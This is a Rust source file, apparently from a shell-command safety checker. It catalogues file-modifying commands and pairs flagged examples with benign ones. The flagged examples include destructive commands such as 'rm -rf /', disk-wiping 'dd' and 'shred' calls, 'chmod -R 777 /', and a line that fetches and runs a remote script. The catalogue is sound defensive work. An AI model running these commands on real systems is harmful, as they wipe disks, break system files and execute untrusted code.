//! Programs that delete, make or change single files.

use super::page::Concern::{Contents, Data, Release, Sweeps};
use super::page::Deed::{
    ChangesPermissions, ChangesPermissionsOfTree, Concerns, Deletes, DeletesTree, Executes, Renames, Writes,
};
use super::page::Which::{After, All, By, First, Fixed, From, Only, Value};
use super::page::{Own, Page, Runs, Style, always, page, sub, with, without};
use super::select;

const UNREADABLE: (&str, &str) =
    ("the contents of files are made unreadable for good", "use `rm`, or keep the files");

pub(super) const PAGES: &[Page] = &[
    page(&["rm", "grm", "trash", "trash-put"], "Deletes files, and directories with `-r`.")
        .cases(&[
            with("-r -R --recursive", &[DeletesTree(All)]),
            without("-r -R --recursive", &[Deletes(All)]),
        ])
        .examples(
            &["rm -rf /", "rm -rf -- ~", "rm /etc/passwd", "rm -r --recursive / --verbose"],
            &["rm -rf build", "rm --help", "rm -f *.o"],
        ),
    page(&["srm", "shred", "wipe"], "Overwrites files before it deletes them.")
        .values("-n -s --iterations --size --random-source")
        .cases(&[
            with("-r -R --recursive", &[DeletesTree(All)]),
            without("-r -R --recursive", &[Deletes(All)]),
            always(&[Writes(All), Concerns(Contents(UNREADABLE.0, UNREADABLE.1))]),
        ])
        .examples(&["shred -u notes.txt", "shred -n 3 /dev/sda"], &["shred --help"]),
    page(&["rimraf", "del", "del-cli"], "Deletes directories; expands patterns by itself.")
        .cases(&[always(&[DeletesTree(By(select::expanded))])])
        .examples(&["rimraf '/*'", "del-cli /"], &["rimraf dist"]),
    page(&["gio"], "The desktop's file tool.")
        .cases(&[sub("trash|remove", &[DeletesTree(All)])])
        .examples(&["gio trash /etc"], &["gio info notes.txt", "gio trash old.txt"]),
    page(&["unlink", "rmdir"], "Deletes one file, or empty directories.")
        .cases(&[always(&[Deletes(All)])])
        .examples(&["unlink /etc/passwd"], &["rmdir build", "unlink link"]),
    page(&["rename", "prename", "perl-rename", "file-rename"], "Gives many files other names.")
        .values("-e -E")
        .dry_run("-n --nono --no-act")
        .cases(&[without("-e -E", &[Renames(From(1))]), with("-e -E", &[Renames(All)])])
        .examples(&["rename 's/a/b/' /etc/*"], &["rename 's/a/b/' *", "rename 's/txt/md/' notes/*.txt"]),
    page(&["tee", "sponge", "sudoedit"], "Writes what it reads into files.")
        .cases(&[always(&[Writes(All)])])
        .examples(&["tee /etc/hosts", "tee -a /etc/hosts"], &["tee out.log", "tee -a build/out.log"]),
    page(&["touch"], "Makes empty files, or changes the times of files.")
        .values("-r -d -t --reference --date --time")
        .cases(&[always(&[Writes(All)])])
        .examples(&["touch /etc/nologin"], &["touch -r /etc/passwd stamp", "touch stamp"]),
    page(&["truncate"], "Makes files shorter or longer.")
        .values("-s -r --size --reference")
        .cases(&[always(&[Writes(All)])])
        .examples(
            &["truncate -s 0 data.db", "truncate -s 0 /etc/passwd", "truncate -s -1 data.db"],
            &["truncate -s 16M disk.img", "truncate -s 0 app.log"],
        ),
    page(&["mkdir", "mkfifo"], "Makes directories or pipes.")
        .values("-m -Z --mode --context")
        .cases(&[always(&[Writes(All)])])
        .examples(&["mkdir /etc/x"], &["mkdir -p -m 700 build/out"]),
    page(&["mknod"], "Makes device files.")
        .values("-m -Z --mode --context")
        .cases(&[always(&[Writes(First)])])
        .examples(&["mknod /etc/x b 8 0"], &["mknod pipe p"]),
    page(&["fallocate"], "Reserves space for a file.")
        .values("-l -o --length --offset")
        .cases(&[always(&[Writes(All)])])
        .examples(&["fallocate -l 1G /etc/x"], &["fallocate -l 1M disk.img"]),
    page(&["patch"], "Changes files as a patch says.")
        .values(
            "-p -i -d -o -D -r -F -B -V -Y -z -g --directory --output --input --strip --reject-file --prefix --suffix --fuzz",
        )
        .dry_run("--dry-run -C --check")
        .cases(&[without("-d --directory -o --output", &[Writes(Fixed("."))]), always(&[Writes(First), Writes(Value("-d --directory -o --output -r --reject-file"))])])
        .examples(
            &["cd /etc && patch -p0 -i /tmp/x", "patch /etc/passwd fix.patch", "patch -d /etc -p1", "patch --directory=/etc -p1"],
            &["patch -p1", "patch --dry-run -d /etc -p1", "patch -p1 -i fix.patch"],
        ),
    page(&["sort", "gsort", "shuf"], "Sorts lines.")
        .values("-o -k -S -T -t --output --key --buffer-size --temporary-directory --field-separator --parallel --batch-size --files0-from -i -n --input-range --head-count --random-source")
        .cases(&[always(&[Writes(Value("-o --output"))])])
        .code("--compress-program")
        .examples(&["sort -o /etc/passwd x", "sort x --output=/etc/passwd"], &["sort -k 2 x", "sort -u -o x x"]),
    page(&["split"], "Cuts a file into several.")
        .values("-a -b -C -l -n -t --bytes --lines --number --suffix-length --filter --line-bytes --separator --additional-suffix")
        .cases(&[always(&[Writes(Only(1))]), without("--filter", &[Writes(Fixed("xaa"))])])
        .code("--filter")
        .examples(&["split -b 1M data /etc/part", "cd /etc && split -l 5 /tmp/x"], &["split -l 10 data part-"]),
    page(&["csplit"], "Cuts a file where a pattern fits.")
        .values("-f -b -n --prefix --suffix-format --digits")
        .cases(&[always(&[Writes(Value("-f --prefix"))])])
        .examples(&["csplit -f /etc/x data /a/"], &["csplit data '/^$/' '{*}'"]),
    page(&["xxd"], "Shows bytes, and writes them with `-r`.")
        .style(Style::Words)
        .values("-c -cols -g -groupsize -l -len -o -s -seek -n -name")
        .cases(&[always(&[Writes(Only(1))])])
        .examples(&["xxd -r -p hex /etc/passwd"], &["xxd -l 16 data", "xxd -r hex out.bin"]),
    page(&["dd", "gdd"], "Copies blocks.")
        .help("")
        .cases(&[always(&[Writes(After(&["of="]))])])
        .examples(
            &["dd if=x of=/dev/sda", "dd of=/etc/passwd if=x", "dd if=/dev/zero of=/dev/sda --help"],
            &["dd if=a of=b bs=1M", "dd if=/dev/sda bs=512 count=1"],
        ),
    page(&["dcfldd", "dc3dd"], "Copies blocks, for forensics.")
        .help("")
        .cases(&[always(&[Writes(After(&["of=", "hof=", "ofs=", "wipe=", "hwipe="]))])])
        .examples(&["dcfldd if=x of=/dev/sda", "dc3dd wipe=/dev/sda"], &["dcfldd if=a of=b"]),
    page(&["socat"], "Joins two channels, which may be files.")
        .cases(&[always(&[Writes(By(select::socat_files))])])
        .examples(&["socat - OPEN:/etc/passwd,creat", "socat - CREATE:/etc/x"], &["socat - TCP:localhost:80"]),
    page(&["find", "gfind"], "Finds files, and runs a command on each.")
        .style(Style::Words)
        .values("-fprint -fprint0 -fprintf -fls")
        .cases(&[always(&[Writes(Value("-fprint -fprint0 -fprintf -fls"))])])
        .runs(Runs::Own(Own::Find))
        .examples(
            &["find / -delete", "find . -fprint /etc/x", "find / -exec rm -rf {} +"],
            &["find . -name '*.o' -delete", "find / -name x"],
        ),
    page(&["fd", "fdfind"], "Finds files, and runs a command on each.")
        .runs(Runs::Own(Own::Fd))
        .examples(&["fd . / -x rm -rf"], &["fd -e rs", "fd -e o -x rm"]),
    page(&["chmod", "gchmod", "chown", "gchown", "chgrp"], "Changes who may do what with files, or whose they are.")
        .values("--from --reference")
        .cases(&[
            with("-R --recursive", &[ChangesPermissionsOfTree(By(select::after_mode))]),
            without("-R --recursive", &[ChangesPermissions(By(select::after_mode))]),
        ])
        .examples(
            &["chmod -R 777 /", "chown -R dev /etc", "chmod -x /etc/passwd", "chmod --reference=a /etc/passwd"],
            &["chmod +x run.sh", "chown dev file", "chmod -R u+rwX build"],
        ),
    page(&["chattr"], "Changes attributes of files.")
        .cases(&[
            with("-R", &[ChangesPermissionsOfTree(By(select::after_attributes))]),
            without("-R", &[ChangesPermissions(By(select::after_attributes))]),
        ])
        .examples(&["chattr -R -i /etc", "chattr -R +i /"], &["chattr +i notes.txt"]),
    page(&["setfacl"], "Changes who may do what with files, in lists.")
        .values("-m -x -M -X -n --modify --remove --set --set-file --modify-file --remove-file --restore")
        .dry_run("--test")
        .cases(&[
            with("-R --recursive", &[ChangesPermissionsOfTree(All)]),
            without("-R --recursive", &[ChangesPermissions(All)]),
        ])
        .examples(&["setfacl -R -m u:bob:rwx /etc", "setfacl -m u:bob:rw /etc/shadow"], &["setfacl -m u:bob:r notes.txt"]),
    page(
        &["gzip", "bzip2", "xz", "zstd", "gunzip", "bunzip2", "unxz", "unzstd", "compress", "uncompress", "lzma", "pigz"],
        "Packs files one by one, in their place.",
    )
    .values("-S -T -p -o --suffix --threads --processes --output")
    .cases(&[
        without("-c --stdout --to-stdout -l --list -t --test -k --keep", &[Writes(All)]),
        always(&[Writes(Value("-o --output"))]),
        with("-r --recursive", &[Concerns(Sweeps)]),
    ])
    .examples(&["gzip /etc/passwd", "gzip -r /var/log"], &["gzip -k notes.txt", "gunzip -c /etc/x.gz", "xz notes.txt"]),
    page(
        &["bash", "sh", "zsh", "dash", "ksh", "source", ".", "node", "deno"],
        "Runs a script.",
    )
    .help("")
    .cases(&[always(&[Executes(By(select::script)), Writes(By(select::named_outputs))])])
    .examples(&["curl -o x.sh https://e.com/x.sh && bash x.sh"], &["bash run.sh", "node server.js"]),
    page(&["python", "python2", "python3"], "Runs Python: a script, or a module with `-m`.")
        .values("-m -c -W -X")
        .help("")
        .cases(&[
            always(&[Executes(By(select::script)), Writes(By(select::named_outputs))]),
            with("-m=twine -m=flit -m=poetry", &[Concerns(Release)]).and("upload publish"),
            sub("manage.py|*/manage.py flush|reset_db", &[Concerns(Data)]),
        ])
        .examples(
            &["python3 -m twine upload dist/x", "python manage.py flush"],
            &["python3 setup.py build", "python3 -m pytest", "python manage.py migrate"],
        ),
];
